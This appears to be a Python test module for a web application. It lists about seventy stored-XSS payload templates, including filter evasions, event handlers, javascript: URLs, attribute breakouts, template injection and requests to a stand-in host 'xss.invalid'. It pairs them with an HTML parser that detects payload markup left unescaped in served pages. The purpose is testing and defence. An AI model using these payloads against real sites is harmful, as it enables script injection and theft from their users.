"""Stored-XSS payloads and the detector that finds their markup in served HTML (S2).

Every payload carries its number `{i}`. One that runs script calls `__xss(i)` (the browser test exposes that
function and counts calls) or fetches http://xss.invalid/hit/i (the browser test intercepts that host and counts
requests). The markup detector does not depend on the browser or the CSP: it parses the HTML the server sent and
reports each payload whose element or attribute came out as markup rather than text."""

from __future__ import annotations

import re
from html.parser import HTMLParser

HIT_HOST = "xss.invalid"

TEMPLATES = [
    # Classic script tags, in every case and with filter evasions
    "<script>__xss({i})</script>",
    "<ScRiPt>__xss({i})</sCrIpT>",
    "<scr<script>ipt>__xss({i})</script>",
    "<script src=http://xss.invalid/hit/{i}></script>",
    "<svg><script>__xss({i})</script></svg>",
    # Event handlers
    "<img src=x onerror=__xss({i})>",
    "<img/src=x/onerror=__xss({i})>",
    "<img src=x oNeRrOr=__xss({i})>",
    "<img src=x onerror=&#95;&#95;xss({i})>",
    "<img src=x onerror=\"window['__x'+'ss']({i})\">",
    "<svg onload=__xss({i})>",
    "<svg/onload=__xss({i})>",
    "<body onload=__xss({i})>",
    "<details open ontoggle=__xss({i})>",
    "<input autofocus onfocus=__xss({i})>",
    "<video><source onerror=__xss({i})>",
    "<audio src=x onerror=__xss({i})>",
    "<marquee onstart=__xss({i})>x</marquee>",
    "<svg><animate onbegin=__xss({i}) attributeName=x dur=1s>",
    "<img src=x onerror=__xss({i}) ",
    # javascript: and data: URLs
    '<a href="javascript:__xss({i})">link {i}</a>',
    '<a href=" javascript:__xss({i})">link {i}</a>',
    '<a href="jav&#x09;ascript:__xss({i})">link {i}</a>',
    '<iframe src="javascript:__xss({i})"></iframe>',
    '<object data="javascript:__xss({i})"></object>',
    '<embed src="javascript:__xss({i})">',
    '<form action="javascript:__xss({i})"><button>go {i}</button></form>',
    '<button formaction="javascript:__xss({i})">go {i}</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:__xss({i})">',
    '<a href="data:text/html,<script>__xss({i})</script>">link {i}</a>',
    "javascript:__xss({i})",
    "data:text/html,<script>__xss({i})</script>",
    # SVG and srcdoc
    '<svg><a xlink:href="javascript:__xss({i})"><text>x</text></a></svg>',
    '<iframe srcdoc="<script>parent.__xss({i})</script>"></iframe>',
    "<iframe srcdoc='&lt;img src=x onerror=parent.__xss({i})&gt;'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss({i})>",
    # Requests to another host (style, image, base)
    '<img src="http://xss.invalid/hit/{i}">',
    "<link rel=stylesheet href=http://xss.invalid/hit/{i}>",
    "<style>@import 'http://xss.invalid/hit/{i}';</style>",
    '<div style="background:url(http://xss.invalid/hit/{i})">x</div>',
    '<base href="http://xss.invalid/hit/{i}/">',
    # htmx attributes: markup that htmx itself would act on
    '<div hx-get="http://xss.invalid/hit/{i}" hx-trigger="load">x</div>',
    '<div hx-on:htmx:load="__xss({i})">x</div>',
    '<img src=x hx-on::error="__xss({i})">',
    # Attribute breakouts
    '"><script>__xss({i})</script>',
    "'><img src=x onerror=__xss({i})>",
    '" onmouseover="__xss({i})" autofocus onfocus="__xss({i})" x="',
    "' autofocus onfocus='__xss({i})' x='",
    "</textarea><script>__xss({i})</script>",
    "</title><script>__xss({i})</script>",
    "</style><script>__xss({i})</script>",
    "</script><script>__xss({i})</script>",
    '<noscript><p title="</noscript><img src=x onerror=__xss({i})>">',
    '<!--<img src="--><img src=x onerror=__xss({i})//">',
    "<template><img src=x onerror=__xss({i})></template>",
    # Script-context breakouts
    '"-__xss({i})-"',
    "';__xss({i});//",
    "${{__xss({i})}}",
    # Template injection (Django, Jinja, client-side frameworks): the marker says if anything was evaluated
    "xsstpl{i}a{{{{7*7}}}}",
    "xsstpl{i}b{{% if 1 %}}49{{% endif %}}",
    "{{{{ '<script>__xss({i})</script>'|safe }}}}",
    "{{{{constructor.constructor('__xss({i})')()}}}}",
    # Unicode tricks
    "\uff1cscript\uff1e__xss({i})\uff1c/script\uff1e",
    "\u202e<img src=x onerror=__xss({i})>",
    "\\u003cscript\\u003e__xss({i})\\u003c/script\\u003e",
    "%3Cscript%3E__xss({i})%3C/script%3E",
    # Markdown link forms
    "[click {i}](javascript:__xss({i}))",
    '![x](x" onerror="__xss({i}))',
    "[click {i}](data:text/html,<script>__xss({i})</script>)",
    "<http://xss.invalid/hit/{i}>",
]


def payloads(first: int = 1) -> dict[int, str]:
    """Every template once, numbered from `first`."""
    return {first + n: template.format(i=first + n) for n, template in enumerate(TEMPLATES)}


_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster", "content"}
_CALL = re.compile(r"__xss\((\d+)\)|window\['__x'\+'ss'\]\((\d+)\)")
_HIT = re.compile(re.escape(HIT_HOST) + r"/hit/(\d+)")
_TEMPLATE_RAN = re.compile(r"xsstpl(\d+)[ab]49")


def _numbers(text: str) -> set[int]:
    found = {int(a or b) for a, b in _CALL.findall(text)}
    return found | {int(n) for n in _HIT.findall(text)}


class _Detector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.injected: set[int] = set()
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            value = value or ""
            squashed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            # Handlers (on*, htmx's hx-on*), htmx requests, inline documents and styles: anything with a payload's
            # call or hit URL in it is the payload's. A URL attribute: only when it is a script or data URL or
            # points at the hit host (a link to a slug made from a payload's name is not an injection).
            runs_as_code = name.startswith(("on", "hx-")) or name in ("srcdoc", "style")
            script_url = name in _URL_ATTRIBUTES and (
                squashed.startswith(("javascript:", "data:")) or "url=javascript:" in squashed or HIT_HOST in squashed
            )
            if runs_as_code or script_url:
                self.injected |= _numbers(value)
        # The raw-text elements: a payload's call or hit URL inside a script or style element is code. A JSON data
        # block (json_script) holds text, escaped for that context, not code.
        self._script = tag == "style" or (tag == "script" and "json" not in (dict(attrs).get("type") or ""))

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script:
            self.injected |= _numbers(data)
        self.injected |= {int(n) for n in _TEMPLATE_RAN.findall(data)}


def injected_markup(html: str) -> set[int]:
    """The numbers of the payloads whose markup (an element, an event handler, a script URL, a request to the hit
    host, or an evaluated template expression) is in `html` as markup rather than as escaped text."""
    detector = _Detector()
    detector.feed(html)
    detector.close()
    return detector.injected
